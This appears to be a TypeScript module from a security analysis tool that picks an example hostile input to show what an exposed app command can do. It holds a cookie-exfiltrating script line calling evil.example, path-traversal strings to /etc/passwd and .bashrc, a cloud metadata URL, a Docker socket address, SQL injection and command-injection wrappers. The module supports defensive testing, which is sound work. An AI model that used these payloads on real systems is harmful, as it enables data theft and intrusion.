import type { CommandFlow, CommandPower } from "../../domain/rust-command.ts";

/** What a page would hand over to show what it can do. */
const EXAMPLES: Readonly<Record<CommandPower, string>> = {
  run: "/usr/bin/env",
  update: "https://evil.example/latest.json",
  script: "fetch('https://evil.example/' + document.cookie)",
  "change-files": "../../../../home/user/.bashrc",
  "read-files": "../../../../etc/passwd",
  sql: "SELECT * FROM sqlite_master",
  network: "http://169.254.169.254/latest/meta-data/",
  window: "https://evil.example/",
};

/** Calls that want something else than a file, with one that is mostly there or mostly isn't, as the call wants it. */
const OF_CALLS: readonly (readonly [call: RegExp, power: CommandPower, example: string])[] = [
  [/read_dir|opendir|Walk|dir_content|^dir::/, "read-files", "../../../../etc"],
  [/remove_dir|rmdir|dir::remove/, "change-files", "../../../../home/user/.config"],
  [/create_dir|mkdir|dir::create/, "change-files", "../../../../home/user/.config/autostart"],
  [/link|create_new/, "change-files", "../../../../home/user/.bash_login"],
  [/Stream::connect|send_to/, "network", "127.0.0.1:2375"],
];

/** An input that shows what a command does with it, where it stands in a text that the command makes. */
export function exampleOf({ power, call, around }: CommandFlow): string {
  const ofCall = OF_CALLS.find(([pattern, of]) => of === power && pattern.test(call));
  const example = ofCall?.[2] ?? EXAMPLES[power];
  return around === null ? example : within(power, call, example, around);
}

function within(
  power: CommandPower,
  call: string,
  example: string,
  { before, after }: NonNullable<CommandFlow["around"]>,
): string {
  const quote = /["'`]$/.exec(before)?.[0] ?? "";
  switch (power) {
    case "network":
    case "window":
      return addressWithin(example, before, after);
    case "script":
      return quote === "" ? example : `${quote});${example}//`;
    case "sql":
      if (before === "") return example;
      return /\b(?:from|into|table|update|join)\s+["'`]?$/i.test(before)
        ? "sqlite_master"
        : `${quote === "" ? "1" : quote} OR 1=1 --`;
    case "run":
      // A script that goes on: the words before belong to another command.
      if (!call.endsWith("…") || before.trim() === "") return example;
      return quote === "" ? `; ${example}` : `${quote}; ${example}; : ${quote}`;
    default:
      return example;
  }
}

/** An address in the place of a server, or behind the beginning of one. */
function addressWithin(example: string, before: string, after: string): string {
  const isPort = after.startsWith(":");
  if (/:\/\/$/.test(before) || (before === "" && isPort)) {
    const server = example.replace(/^\w+:\/\//, "");
    return isPort ? server.replace(/[:/].*$/, "") : after === "" ? server : `${server}?`;
  }
  return /:\/\/[^/]+$/.test(before) ? ".evil.example/" : example;
}
